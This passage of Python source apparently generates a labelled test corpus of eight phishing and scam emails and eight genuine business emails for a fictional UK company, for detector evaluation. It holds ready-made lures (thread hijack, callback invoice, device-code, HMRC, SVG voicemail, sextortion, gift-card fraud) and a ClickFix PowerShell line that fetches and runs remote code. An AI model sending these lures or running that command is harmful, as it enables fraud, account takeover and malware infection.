"""English messages: 8 attacks, 8 genuine."""
import base64
import random

from common import *  # noqa: F401,F403

HARWOOD_SIG = """Gareth Evans
Category Buyer - Paints & Sundries
Harwood Decorators' Merchants Ltd
Unit 4, Cross Green Way, Leeds LS9 0SE
T: 0113 249 7710 | M: 07700 900 318"""

PRIYA = C.P('uk_acc')
DAVID = C.P('uk_mgr')


# =========================================================== ATTACKS ======
def a_thread_hijack():
    t = T('UK', 2026, 11, 3, 3, 14, 51)
    old_t = T('UK', 2026, 10, 1, 11, 2, 0)
    old = """Hi Gareth,

Thanks for confirming. Invoice EXU-26-3318 (PO 77120, 96 x 10L Trade Contract Matt) is attached again for your records. Payment terms as agreed, 60 days end of month.

Kind regards,
Priya

Priya Sharma
Accountant UK
Example Coatings UK Ltd"""
    body = """Hi Priya,

Apologies for the delay on this one. Our accounts team have now processed the remittance for the outstanding invoices on our side. Please review the secure payment advice via the link below and confirm the amounts reconcile at your end.

[View Remittance Advice (PDF)](https://harwooddm-my.sharepoint.com/:o:/g/personal/gareth_evans_harwooddm_co_uk/EcV9pLk2x4JHm0wq8VtR1aUBq3kZ7xN0fYd5Qe8TgWcH1A?e=x7Kp2Q)

Let me know if you have any problems opening it.

Kind regards,

""" + HARWOOD_SIG + '\n' + quote_outlook('en', PRIYA, old_t, ('Gareth Evans', 'gareth.evans@harwooddm.co.uk'),
                                          'RE: Harwood PO 77120 / invoice EXU-26-3318', old)
    refs = '<LO2P265MB48213C1F0A7D2E9B4C61A0F3D85B1C2E7A04@LO2P265MB4821.GBRP265.PROD.OUTLOOK.COM> <7b12c4f09e8a4d3c9f21b5e6a0d47c18@EXCH01.corp.example.com>'
    b = multi('alternative', [text(plain(body), 'us-ascii', 'quoted-printable'),
                              htmlpart(html_outlook(body, 'us-ascii', lang='EN-GB'), 'us-ascii', 'quoted-printable')])
    return Mail('thread-hijack-compromised-customer-sharepoint', t=t, frm=('Gareth Evans', 'gareth.evans@harwooddm.co.uk'),
                to=('Gareth Evans', 'gareth.evans@harwooddm.co.uk'), rcpt=PRIYA[1], subject='RE: Harwood PO 77120 / invoice EXU-26-3318',
                irt='<7b12c4f09e8a4d3c9f21b5e6a0d47c18@EXCH01.corp.example.com>', refs=refs, body=b,
                profile=I.o365, pkw=dict(domain='harwooddm.co.uk', srv='LO2P265MB4821', region='GBRP265', lang='en-GB',
                                         obe=('GBR01-LO2-obe', 'mail-lo2gbr01on2091', '40.107.20.91')),
                tenant='9e4a2c71-58b3-4f0d-a6e2-1b7c3d90f845',
                what='Thread hijack from the genuinely compromised mailbox of a UK customer\'s buyer: reply in an old invoice thread with a "remittance advice" link to a OneNote file on the customer\'s own SharePoint.',
                why='Account takeover: genuine Harwood Microsoft 365 tenant, but sent at 03:14, addressed To the sender himself with victims in Bcc, a buyer (not accounts) sending a "remittance", generic text and a SharePoint OneNote (:o:) link - the standard first hop to an AiTM page.')


def a_toad_invoice():
    t = T('UK', 2026, 11, 11, 14, 38, 6)
    body = """Dear Customer,

Thank you for your continued subscription. Your annual plan has been renewed automatically and the payment has been processed successfully.

Order ID: MS-4412-0937-UK
Product: Microsoft 365 Business Premium (25 licences, annual)
Amount charged: GBP 1,249.99
Payment method: Direct Debit / card on file

Your invoice is attached for your records.

If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our Billing Support Team within 24 hours on +44 20 3868 4417 (Mon-Sat, 8am-8pm). After this period the charge cannot be reversed.

Regards,
Billing Support Team
"""
    inv = pdf([('h', 'INVOICE'), ('p', 'Microsoft 365 Subscription Services\nBilling Department'), ('gap', 10),
               ('row', [(50, 'Invoice No.'), (200, 'INV-UK-88214093')]), ('row', [(50, 'Order ID'), (200, 'MS-4412-0937-UK')]),
               ('row', [(50, 'Date'), (200, '11/11/2026')]), ('row', [(50, 'Bill to'), (200, 'priya.sharma@example.com')]), ('gap', 8), ('rule',),
               ('row', [(50, 'Description'), (330, 'Qty'), (450, 'Amount')]),
               ('row', [(50, 'Microsoft 365 Business Premium - annual renewal'), (330, '25'), (450, 'GBP 1,041.66')]),
               ('row', [(50, 'VAT 20%'), (450, 'GBP 208.33')]), ('row', [(50, 'TOTAL CHARGED'), (450, 'GBP 1,249.99')]), ('rule',), ('gap', 10),
               ('b', 'Not you? Call Billing Support within 24 hours: +44 20 3868 4417'),
               ('p', 'To cancel this order and request a refund, please call our support desk. Have your Order ID ready. Refunds cannot be processed by e-mail.')],
              'Invoice INV-UK-88214093', 'Billing', 'Microsoft: Print To PDF', 'Microsoft Word', t)
    b = multi('mixed', [multi('alternative', [text(body, 'utf-8', 'quoted-printable', label='"UTF-8"'),
                                              htmlpart(html_gmail(body), 'utf-8', 'quoted-printable', label='"UTF-8"')]),
                        pdf_att(inv, 'INV-UK-88214093.pdf')])
    return Mail('callback-phishing-fake-renewal-invoice', t=t, frm=('Billing Support Team', 'billingsupportdesk.renewals@gmail.com'),
                to=PRIYA, subject='Your subscription has been renewed - Order MS-4412-0937-UK', hcs='UTF-8', body=b,
                profile=I.gmail, pkw=dict(node='ej1'),
                what='Callback phishing (TOAD): fake Microsoft 365 renewal "invoice" of GBP 1,249.99 with a phone number to "cancel and refund".',
                why='Gmail sender posing as a billing department, product name without a real Microsoft sender, urgency (24 h) and refund only by phone - the call leads to remote-access/banking fraud; no link so URL filters see nothing.')


def a_device_code():
    t = T('UK', 2026, 11, 17, 10, 2, 33)
    body = """Hi David,

As discussed with your procurement colleagues at HQ, please find our revised 2027 price schedule for the 5L and 10L tinplate pails and the new PP lids.

For data-protection reasons the document is held in our secure Microsoft document room. To open it:

1. Go to https://microsoft.com/devicelogin
2. Enter the access code: F7QK2MX9L
3. Sign in with your Example work account when prompted.

The access code is valid for 15 minutes. If it has expired just reply to this email and I will send you a new one.

Many thanks,

Rachel Moore
Key Account Manager
Albion Packaging Solutions Ltd
Tel: 01942 550 318
"""
    b = multi('alternative', [text(body, 'us-ascii', 'quoted-printable'),
                              htmlpart(html_outlook(body, 'us-ascii', lang='EN-GB'), 'us-ascii', 'quoted-printable')])
    return Mail('device-code-phishing-price-schedule', t=t, frm=('Rachel Moore', 'rachel.moore@albionpackaging.co.uk'), to=DAVID,
                subject='Secure document: Revised 2027 price schedule - Albion Packaging', body=b,
                profile=I.o365, pkw=dict(domain='albionpackaging.co.uk', srv='CWLP265MB6127', region='GBRP265', lang='en-GB',
                                         obe=('GBR01-CWL-obe', 'mail-cwlgbr01on2108', '40.107.11.108')),
                what='Device-code phishing: a "secure document room" asks the recipient to enter a code at microsoft.com/devicelogin and sign in.',
                why='The code was generated by the attacker; entering it grants the attacker OAuth tokens for the victim\'s account (Storm-2372 style). Sent from a compromised small-business Microsoft 365 tenant, so authentication passes and the only URL is genuine; legitimate document sharing never works this way; 15-minute urgency.')


def a_clickfix():
    t = T('UK', 2026, 11, 24, 16, 51, 12)
    body = """Good afternoon,

Please find attached remittance advice for payment made today by BACS.

Payment reference: BJ-2026-1184
Amount: GBP 7,416.00

Kind regards

Accounts Department
Brightwater Joinery Ltd
"""
    cmd = 'powershell -w h -nop -c "iwr -useb https://cdn-docview.com/r/1184 | iex"'
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance_BJ-2026-1184.pdf - Secure Viewer</title>
<style>body{margin:0;background:#525659;font-family:Arial,sans-serif}.bar{background:#323639;color:#fff;padding:10px 16px;font-size:14px}
.doc{width:620px;height:360px;margin:40px auto;background:#fff;filter:blur(3px)}.modal{position:fixed;top:120px;left:50%;margin-left:-240px;width:440px;background:#fff;
border-radius:6px;box-shadow:0 4px 18px rgba(0,0,0,.45);padding:26px}.modal h2{margin:0 0 10px;font-size:18px}ol{padding-left:20px;line-height:26px}
code{display:block;background:#f1f1f1;border:1px solid #ccc;padding:8px;font-size:12px;word-break:break-all;margin-top:10px}</style></head>
<body><div class="bar">Remittance_BJ-2026-1184.pdf</div><div class="doc"></div>
<div class="modal"><h2>&#9888; Verify you are human</h2>
<p>The document could not be displayed because your browser failed the security check (Error 0x80070643). Complete the verification steps to continue:</p>
<ol><li>Press <b>Windows Key + R</b></li><li>Copy the verification code below and paste it with <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol>
<code>""" + cmd + """</code>
<p style="font-size:12px;color:#666">Cloud Document Services &middot; Ray ID 8f3c2a91d7e04b62</p></div>
</body></html>
"""
    b = multi('mixed', [multi('alternative', [text(body, 'utf-8', 'quoted-printable'), htmlpart(html_simple(body), 'utf-8', 'quoted-printable')]),
                        att(page, 'text/html', 'Remittance_BJ-2026-1184.html', text_charset='utf-8', note='ClickFix dialog with PowerShell one-liner as text, no script')])
    return Mail('clickfix-remittance-html-attachment', t=t, frm=('Brightwater Joinery Ltd - Accounts', 'accounts@brightwater-joinery.co.uk'),
                to=PRIYA, subject='Remittance Advice - Payment Ref BJ-2026-1184', body=b,
                profile=I.cpanel_php, pkw=dict(server='uk1001.fasthostingcloud.co.uk', server_ip='185.151.30.144', cpuser='brightwa',
                                               site='brightwater-joinery.co.uk', smtp_auth=True, client_ip='45.137.21.88', mailer=None),
                what='ClickFix: "remittance advice" HTML attachment shows a fake "verify you are human" dialog telling the user to paste a PowerShell command into Win+R.',
                why='Unknown payer (no business with Brightwater), stolen-credential SMTP login on a small firm\'s cPanel hosting from a foreign VPS IP; the attachment instructs the user to run a download-and-execute PowerShell one-liner (inert here: only text, no script).')


def a_hmrc():
    t = T('UK', 2026, 11, 12, 9, 15, 40)
    url = 'https://www.tax-service-gov.uk-vat-appeals.com/penalty/appeal?ref=VAT-PEN-2026-0934417&vrn=%s' % C.EXG_UK_VAT[2:]
    body = """HM Revenue & Customs

Late submission penalty - VAT

Company: EXAMPLE COATINGS UK LTD
VAT registration number: %s
Period: 01 July 2026 to 30 September 2026
Penalty reference: VAT-PEN-2026-0934417

Our records show that the VAT return for the above period was received after the deadline of 7 November 2026. Under the points-based penalty system you have now reached the penalty threshold and a financial penalty of GBP 200.00 has been charged to your VAT account.

You can view the penalty, update your Direct Debit details or submit an appeal within 30 days using our online service:

[View penalty and appeal](%s)

If you do not act within 30 days, the penalty will be collected together with interest.

Yours faithfully

VAT Compliance Team
HM Revenue & Customs
""" % (C.EXG_UK_VAT[2:], url)
    blocks = [('h', 'Late submission penalty - VAT')] + body.split('\n\n')[2:5] + [('btn', 'View penalty and appeal', url), body.split('\n\n')[6], 'Yours faithfully\nVAT Compliance Team\nHM Revenue & Customs']
    b = multi('alternative', [text(plain(body, 'colon'), 'utf-8', 'quoted-printable'),
                              htmlpart(html_branded(blocks, brand='#0b0c0c', logo_text='GOV.UK', footer='HM Revenue & Customs | Privacy notice'), 'utf-8', 'quoted-printable')])
    return Mail('hmrc-vat-penalty-phishing', t=t, frm=('HMRC', 'noreply@hmrc-notifications.uk'), to=PRIYA,
                subject='VAT penalty notice - late submission period 09 26 - action required', body=b,
                profile=I.ses, pkw=dict(region='eu-west-1'),
                what='HMRC-themed credential/payment phishing: "late submission penalty" with a link to a look-alike appeals site collecting Government Gateway and Direct Debit details.',
                why='Sender domain hmrc-notifications.uk is not gov.uk; link to tax-service-gov.uk-vat-appeals.com; HMRC never sends penalty links by e-mail (compare the genuine HMRC receipt in business 14, which deliberately contains no link).')


def a_svg_voicemail():
    t = T('UK', 2026, 10, 14, 12, 41, 7)
    lurl = 'https://hostedvoice-alerts.com/vm/listen?m=ZGF2aWQud2hpdGZpZWxkQGV4YW1wbGUuY29t&id=4417'
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="520" height="180" viewBox="0 0 520 180">
<rect width="520" height="180" rx="10" fill="#f4f6f8" stroke="#c9d1d9"/>
<text x="24" y="40" font-family="Segoe UI,Arial" font-size="18" fill="#1f2328">New voice message</text>
<text x="24" y="66" font-family="Segoe UI,Arial" font-size="13" fill="#57606a">From: +44 161 872 5519  -  Duration 00:47  -  14/10/2026 12:39</text>
<a xlink:href="%s" target="_blank">
<rect x="24" y="92" width="200" height="52" rx="26" fill="#0078d4"/>
<polygon points="52,104 52,132 76,118" fill="#ffffff"/>
<text x="92" y="124" font-family="Segoe UI,Arial" font-size="16" fill="#ffffff">Play message</text>
</a>
<text x="250" y="124" font-family="Segoe UI,Arial" font-size="11" fill="#8c959f">Sign in with your work account to listen</text>
</svg>
""" % lurl.replace('&', '&amp;')
    body = """You have received a new voice message.

From: +44 161 872 5519
To: David Whitfield
Duration: 00:47
Received: 14/10/2026 12:39

The voice message is attached to this email.

Hosted Voice Notification Service
"""
    b = multi('mixed', [text(body, 'utf-8', 'quoted-printable'), att(svg, 'image/svg+xml', 'VM_441618725519_0047.svg', text_charset='utf-8', note='SVG with link, no script')])
    return Mail('svg-voicemail-attachment', t=t, frm=('Voice Message Service', 'noreply@hostedvoice-alerts.com'), to=DAVID,
                subject='\U0001F50A New voice message from +44 161 872 5519 (00:47)', body=b,
                profile=I.mailgun, pkw=dict(mgdomain='mg.hostedvoice-alerts.com'),
                what='Voicemail lure with an SVG attachment: the "Play message" button is a link to a credential-harvesting page (victim address base64 in the URL).',
                why='Example uses 3CX through the internal relay (see business 15), not an external "hosted voice" service; SVG is used to smuggle a link past attachment filters; sender domain unrelated; sent through Mailgun.')


def a_sextortion():
    t = T('UK', 2026, 12, 7, 4, 22, 51)
    btc = coins.btc_p2wpkh('audit79-sextortion-1')
    usdt = coins.tron('audit79-sextortion-1')
    body = """Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

I am a hacker and I sent this email from your own account (david.whitfield@example.com) so that you can see I have full access.

Some time ago I infected your operating system with a trojan that gives me the camera and microphone and all your files, contacts and emails. I also made a video of you on adult websites, with you on one half of the screen and what you watched on the other half.

I do not want to ruin your life. Transfer exactly 1450 USD to me and I will delete everything permanently.

Bitcoin (BTC): %s
or USDT (TRC20): %s

Copy the address and paste it in your wallet. You have 48 hours from the moment you opened this email. I receive a notification when you read it.
If I do not receive the payment, the video will be sent to all your contacts and colleagues.

Do not reply to this email, it is not monitored. Do not go to the police, I will know.
""" % (btc, usdt)
    return Mail('sextortion-spoofed-own-address-bitcoin', t=t, frm=('David Whitfield', 'david.whitfield@example.com'), to=DAVID,
                subject='Your account has been compromised - payment required', body=text(body, 'utf-8', 'base64'),
                profile=I.direct, pkw=dict(helo='[177.104.28.19]', rdns='unknown', ip='177.104.28.19',
                                           mailer='Microsoft Outlook Express 6.00.2900.5512', msgid_dom='example.com'),
                what='Sextortion with a spoofed own address and Bitcoin (bech32) / USDT-TRC20 payment addresses.',
                why='From: forged as the recipient, delivered directly to the MX from an unknown Brazilian IP with no rDNS and an ancient Outlook Express X-Mailer; boilerplate extortion with a 48-hour deadline; crypto wallet addresses.')


def a_gift_cards():
    t = T('UK', 2026, 12, 10, 13, 3, 48)
    body = """David,

Are you at your desk? I need you to handle a small task for me discreetly. We want to thank a few of our key UK trade customers before Christmas, and I would like it to be a surprise, so please keep this between us for now.

Please purchase 10 Amazon.co.uk gift cards at GBP 100 each (physical cards from Tesco or WHSmith are fine). Once you have them, scratch the back, take clear pictures of the codes and email them to me here. Keep the receipts and I will get them reimbursed by Priya next week.

I am in back-to-back meetings with the bank and can't take calls, just reply by email.

Thanks,
Matthias

Sent from my iPhone
"""
    return Mail('gift-card-scam-ceo-freemail', t=t, frm=('Matthias Köhler', 'm.koehler.ceo@outlook.com'), to=DAVID,
                subject='Quick favour', body=multi('alternative', [text(body, 'us-ascii', 'quoted-printable'),
                                                                   htmlpart(html_outlook(body, 'us-ascii', lang='EN-GB'), 'us-ascii', 'quoted-printable')]),
                profile=I.outlook_com, pkw=dict(srv='AS8P191MB1734', client_ip='154.118.40.71'),
                what='Gift-card scam: "Matthias Köhler" asks the UK office manager to buy GBP 1,000 of Amazon gift cards and e-mail photos of the codes.',
                why='CEO display name on a consumer outlook.com address, secrecy, "can\'t take calls", gift cards as payment - the classic gift-card BEC.')


def attacks():
    return [a_thread_hijack(), a_toad_invoice(), a_device_code(), a_clickfix(), a_hmrc(), a_svg_voicemail(), a_sextortion(), a_gift_cards()]


# =========================================================== BUSINESS =====
def b_github():
    t = T('DE', 2026, 10, 8, 16, 22, 10)
    tok = 'a9e2c1' + 'f7b4d3e8c0a9b2f1e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0'
    body = """We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

https://github.com/password_reset/%s

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team
""" % tok
    blocks = [('h', 'Reset your GitHub password'), 'We heard that you lost your GitHub password. Sorry about that!',
              'But don\u2019t worry! You can use the following button to reset your password:',
              ('btn', 'Reset your password', 'https://github.com/password_reset/' + tok),
              'If you don\u2019t use this link within 3 hours, it will expire. To get a new password reset link, visit [https://github.com/password_reset](https://github.com/password_reset).',
              'Thanks,\nThe GitHub Team']
    b = multi('alternative', [text(body, 'UTF-8', '7bit', label='UTF-8'),
                              htmlpart(html_branded(blocks, brand='#24292f', logo_text='GitHub',
                                                    footer='You\u2019re receiving this email because a password reset was requested for your account.\nGitHub, Inc. \u30fb88 Colin P Kelly Jr Street \u30fbSan Francisco, CA 94107'),
                                       'UTF-8', 'quoted-printable', label='UTF-8')])
    return Mail('github-password-reset', t=t, frm=('GitHub', 'noreply@github.com'), to=C.P('it'),
                subject='[GitHub] Please reset your password', body=b, profile=I.github,
                what='Genuine GitHub password-reset e-mail requested by the Head of IT.',
                why='Sent by GitHub\'s own outbound servers (out-*.smtp.github.com, 192.30.252.0/22), links only to github.com, short expiry, no urgency beyond the standard text.')


def b_ms_invoice():
    t = T('UK', 2026, 11, 6, 2, 17, 3)
    inv = 'G061438227'
    body = """Microsoft

Your invoice is ready

Billing account: Example Coatings UK Ltd
Billing profile: Example Coatings UK - Manchester
Invoice number: %s
Invoice date: 05/11/2026
Billing period: 05/10/2026 - 04/11/2026
Amount due: GBP 1,126.80
Due date: 05/12/2026

The amount due will be charged to the payment method on file. A PDF copy of your invoice is attached.

View your invoice and payment details in the Microsoft 365 admin center:
https://admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list

Please do not reply to this message. This mailbox is not monitored.

Microsoft Ireland Operations Limited, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, D18 P521, Ireland
Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
""" % inv
    doc = pdf([('h', 'Invoice'), ('p', 'Microsoft Ireland Operations Limited\nOne Microsoft Place, South County Business Park, Leopardstown, Dublin 18, D18 P521'), ('gap', 8),
               ('row', [(50, 'Sold to / Bill to'), (300, 'Invoice number'), (420, inv)]), ('row', [(50, 'Example Coatings UK Ltd'), (300, 'Invoice date'), (420, '05/11/2026')]),
               ('row', [(50, 'Unit 7, Trafford Park Road'), (300, 'Billing period'), (420, '05/10/2026 - 04/11/2026')]),
               ('row', [(50, 'Manchester M17 1HG, GB'), (300, 'VAT number'), (420, C.EXG_UK_VAT)]), ('gap', 8), ('rule',),
               ('row', [(50, 'Product'), (300, 'Qty'), (360, 'Unit price'), (450, 'Amount')]),
               ('row', [(50, 'Microsoft 365 Business Premium'), (300, '38'), (360, '18.10'), (450, '687.80')]),
               ('row', [(50, 'Microsoft 365 Business Standard'), (300, '12'), (360, '10.30'), (450, '123.60')]),
               ('row', [(50, 'Microsoft Teams Phone Standard'), (300, '18'), (360, '6.60'), (450, '118.80')]), ('rule',),
               ('row', [(300, 'Subtotal'), (450, '930.20')]), ('row', [(300, 'VAT 20%'), (450, '196.60')]), ('row', [(300, 'Total GBP'), (450, '1,126.80')])],
              'Invoice ' + inv, 'Microsoft', 'Microsoft Billing', 'Microsoft Billing', t)
    b = multi('mixed', [multi('alternative', [text(body, 'utf-8', 'quoted-printable'),
                                              htmlpart(html_branded([('h', 'Your invoice is ready')] + body.split('\n\n')[2:6] + [('btn', 'View invoice', 'https://admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list'), ('small', body.split('\n\n')[-3])],
                                                                    brand='#2f2f2f', logo_text='Microsoft',
                                                                    footer='Microsoft Ireland Operations Limited, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, D18 P521, Ireland\n[Privacy Statement](https://go.microsoft.com/fwlink/?LinkId=521839)'),
                                                       'utf-8', 'quoted-printable')]),
                        pdf_att(doc, 'Invoice_%s.pdf' % inv)])
    return Mail('microsoft-365-invoice-genuine', t=t, frm=('Microsoft', 'microsoft-noreply@microsoft.com'), to=PRIYA,
                subject='Your Microsoft invoice %s is ready' % inv, body=b, profile=I.ms_service, pkw=dict(sender_dom='microsoft.com'),
                what='Genuine monthly Microsoft 365 invoice for the UK tenant with PDF.',
                why='Microsoft\'s own outbound infrastructure and sender, amounts consistent with the tenant, links only to admin.microsoft.com / go.microsoft.com, no phone number and no refund pressure.',
                pair=(['callback-phishing-fake-renewal-invoice'], 'Same "Microsoft 365 invoice" theme, but real Microsoft sender and infrastructure, charged to the payment method on file, no call-back number.'))


def b_xero_remittance():
    t = T('UK', 2026, 11, 4, 15, 9, 27)
    body = """Hi Priya,

Here's your remittance advice for payment of GBP 18,422.60 made on 4 Nov 2026 by Harwood Decorators' Merchants Ltd.

The payment covers:
EXU-26-3318    GBP 11,908.80
EXU-26-3402    GBP  6,513.80

A PDF copy of the remittance advice is attached.

If you have any questions, please let us know.

Thanks,
Harwood Decorators' Merchants Ltd
accounts@harwooddm.co.uk
"""
    doc = pdf([('h', 'REMITTANCE ADVICE'), ('p', "Harwood Decorators' Merchants Ltd\nUnit 4, Cross Green Way, Leeds LS9 0SE\nVAT %s" % C.HARWOOD_VAT), ('gap', 8),
               ('row', [(50, 'To'), (200, 'Example Coatings UK Ltd')]), ('row', [(50, 'Payment date'), (200, '4 Nov 2026')]),
               ('row', [(50, 'Paid from'), (200, 'NatWest ****7336')]), ('gap', 6), ('rule',),
               ('row', [(50, 'Invoice'), (200, 'Reference'), (450, 'Amount GBP')]),
               ('row', [(50, 'EXU-26-3318'), (200, 'PO 77120'), (450, '11,908.80')]), ('row', [(50, 'EXU-26-3402'), (200, 'PO 77291'), (450, '6,513.80')]), ('rule',),
               ('row', [(200, 'Total paid'), (450, '18,422.60')])],
              'Remittance Advice', "Harwood Decorators' Merchants Ltd", 'Xero', 'Xero', t)
    blocks = body.strip().split('\n\n')
    b = multi('mixed', [multi('alternative', [text(body, 'utf-8', 'quoted-printable'),
                                              htmlpart(html_simple(body), 'utf-8', 'quoted-printable')]),
                        pdf_att(doc, 'Remittance Advice - EXU-26-3318.pdf')])
    return Mail('customer-remittance-advice-xero', t=t, frm=("Harwood Decorators' Merchants Ltd", 'messaging-service@post.xero.com'),
                reply_to=('Harwood Accounts', 'accounts@harwooddm.co.uk'), to=PRIYA, quote_names=True,
                subject="Remittance advice from Harwood Decorators' Merchants Ltd", body=b,
                profile=I.ses, pkw=dict(region='eu-west-1', mail_from='bounces+%s@post.xero.com' % 'a81f02c7'),
                what='Genuine remittance advice from a UK customer, sent through Xero with PDF.',
                why='Xero\'s sending service (Amazon SES) on behalf of the customer, Reply-To the customer\'s accounts mailbox, invoices and amounts match the ledger, PDF attached rather than a login link.',
                pair=(['thread-hijack-compromised-customer-sharepoint', 'clickfix-remittance-html-attachment'], 'Same "remittance advice" lure, but from the customer\'s accounting system with a plain PDF and matching invoices.'))


def b_broken_laptop():
    t = T('UK', 2026, 12, 8, 19, 37, 5)
    body = """Hi Thomas,

My laptop (the Dell with asset tag EXG-UK-0412) died this afternoon - black screen, charging light flashes amber three times, and it won't boot even with the power brick from Priya's machine. So I'm writing from my personal Gmail, sorry.

Could your team arrange a loan laptop for me? I'm in the Manchester office from 8 tomorrow. I've got the quarterly stock count on Thursday, so ideally something by Wednesday. If you need to check this is really me, ring me on my mobile 07700 900 412.

I don't need anything reset - I can still get into Outlook on my phone.

Cheers,
David
"""
    b = multi('alternative', [text(body, 'UTF-8', 'quoted-printable', label='"UTF-8"'),
                              htmlpart(html_gmail(body), 'UTF-8', 'quoted-printable', label='"UTF-8"')])
    return Mail('broken-laptop-private-gmail', t=t, frm=('David Whitfield', 'david.whitfield71@gmail.com'), to=C.P('it'),
                cc=[C.P('sec')], subject='Laptop dead - writing from personal email', body=b, profile=I.gmail, pkw=dict(node='wr1'),
                what='UK office manager reports a broken laptop from his private Gmail and asks IT for a loan device.',
                why='Private address but the request is harmless (hardware), offers call-back verification on his own mobile, asset tag and context check out, explicitly needs no reset.',
                pair=(['gift-card-scam-ceo-freemail'], 'Staff member writing from a consumer mailbox; differs in that nothing of value is requested and phone verification is offered.'))


def b_newsletter():
    t = T('DE', 2026, 10, 29, 7, 0, 12)
    lu = '<https://coatingsinsight.com/unsubscribe?u=4f8e21c07b&l=weekly>, <mailto:unsubscribe@coatingsinsight.com?subject=unsubscribe-4f8e21c07b>'
    trk = lambda p: 'https://u1193310.ct.sendgrid.net/ls/click?upn=u001.' + base64.b64encode(('coatingsinsight.com/' + p).encode()).decode().rstrip('=')
    items = [('Raw materials: acrylic monomer prices ease for third month', 'raw-materials-oct'),
             ('EU Green Claims Directive: what paint brands must change on labels', 'green-claims'),
             ('Interview: scaling powder coatings in Eastern Europe', 'powder-east'),
             ('Events: PaintExpo and ECS 2027 - registration now open', 'events-2027')]
    ptxt = 'Coatings Insight Weekly - 29 October 2026\n\n'
    blocks = [('h', 'Coatings Insight Weekly'), 'Your weekly briefing on the paint and coatings industry - 29 October 2026']
    for title, slug in items:
        ptxt += '* %s\n  %s\n\n' % (title, trk(slug))
        blocks.append('[%s](%s)' % (title, trk(slug)))
    foot = ('You are receiving this because you subscribed to Coatings Insight Weekly with stefanie.krueger@examplegroup.eu.\n'
            '[Unsubscribe](https://coatingsinsight.com/unsubscribe?u=4f8e21c07b&l=weekly) | [Manage preferences](https://coatingsinsight.com/preferences?u=4f8e21c07b)\n'
            'Coatings Insight Media Ltd, 3 Albion Place, Leeds LS1 6JL, United Kingdom')
    ptxt += plain(foot, 'paren')
    b = multi('alternative', [text(ptxt, 'utf-8', 'quoted-printable'),
                              htmlpart(html_branded(blocks, brand='#0e6e5c', logo_text='Coatings Insight', footer=foot), 'utf-8', 'quoted-printable')])
    return Mail('newsletter-coatings-insight-sendgrid', t=t, frm=('Coatings Insight Weekly', 'news@coatingsinsight.com'),
                to=C.P('export'), subject='Coatings Insight Weekly: acrylic prices, Green Claims, powder coatings in CEE',
                body=b, profile=I.sendgrid, pkw=dict(sender_domain='coatingsinsight.com', em='em2231', uid='11933102'), list_unsub=lu,
                what='Subscribed English-language industry newsletter via SendGrid.',
                why='Stable sender domain and ESP, List-Unsubscribe + one-click header, subscription notice, tracked article links only.')


def b_hmrc_receipt():
    t = T('UK', 2026, 11, 5, 10, 44, 19)
    body = """HM Revenue & Customs

VAT return received

Dear EXAMPLE COATINGS UK LTD

We have received your VAT return for the period 1 July 2026 to 30 September 2026.

VAT registration number: %s
Date received: 5 November 2026

You do not need to do anything else.

To view your VAT account, sign in to your HMRC online services account. Go to GOV.UK and search for 'HMRC online services'.

For security reasons, we have not included a link in this email.

From HMRC

This is an automated email - please do not reply.
""" % C.EXG_UK_VAT[2:]
    b = multi('alternative', [text(body, 'utf-8', 'quoted-printable'),
                              htmlpart(html_branded([('h', 'VAT return received')] + body.split('\n\n')[2:10], brand='#0b0c0c', logo_text='GOV.UK',
                                                    footer='This is an automated email - please do not reply.'), 'utf-8', 'quoted-printable')])
    return Mail('hmrc-vat-return-received', t=t, frm=('HMRC', 'noreply@tax.service.gov.uk'), to=PRIYA,
                subject='VAT return received', body=b, profile=I.ses, pkw=dict(region='eu-west-2'),
                what='Genuine HMRC confirmation that the Q3 VAT return was received (GOV.UK Notify style).',
                why='gov.uk sender sent through the government notification platform on Amazon SES; contains no link by design and asks for nothing.',
                pair=(['hmrc-vat-penalty-phishing'], 'Same HMRC / VAT topic and bulk infrastructure, but gov.uk domain, informational, no link, no payment.'))


def b_voicemail_3cx():
    t = T('UK', 2026, 10, 14, 12, 9, 50)
    body = """Dear David Whitfield,

You have received a new voicemail message from 01132497710 (Gareth Evans - Harwood) to extension 10.

Date: 14/10/2026 13:08
Duration: 00:31

The voicemail message is attached to this email. You can also listen to it by dialling *999 from your desk phone or in the 3CX app.

3CX Phone System - Example Coatings UK Ltd
"""
    b = multi('mixed', [text(body, 'utf-8', 'quoted-printable'),
                        att(attach.wav_tone(1.0, seed=7), 'audio/wav', 'Voicemail_01132497710_20261014-1308.wav', note='8 kHz WAV')])
    return Mail('voicemail-3cx-internal', t=t, frm=('3CX Phone System', 'pbx-mcr@example.com'), to=DAVID,
                subject='New voicemail from 01132497710 (Gareth Evans - Harwood)', body=b, profile=I.pbx_3cx,
                what='Genuine voicemail notification from the company\'s 3CX PBX with the WAV recording attached.',
                why='Internal: PBX -> Exchange (Frontend Transport) -> mail-int01 -> mx01; known caller, audio attached as WAV, no link, no login.',
                pair=(['svg-voicemail-attachment'], 'Same voicemail theme on the same day, but internal PBX, real audio file and no sign-in page.'))


def b_ms_security_code():
    t = T('DE', 2026, 11, 20, 11, 3, 44)
    body = """Microsoft account

Security code

Please use the following security code for the Microsoft account le*****@example.com.

Security code: 482913

If you don't recognize the Microsoft account le*****@example.com, you can click https://account.live.com/dp?ft=-DsqX0w7rB1mK9VbN%%21Zp3cYhW8aE5f2LgT6nQ4uJoR&lc=1033 to remove your email address from that account.

Thanks,
The Microsoft account team
"""
    body = body.replace('%%', '%')
    b = multi('alternative', [text(body, 'utf-8', 'quoted-printable'),
                              htmlpart(html_branded([('h', 'Security code'), 'Please use the following security code for the Microsoft account le*****@example.com.',
                                                     'Security code: <b>482913</b>'.replace('<b>', '').replace('</b>', ''),
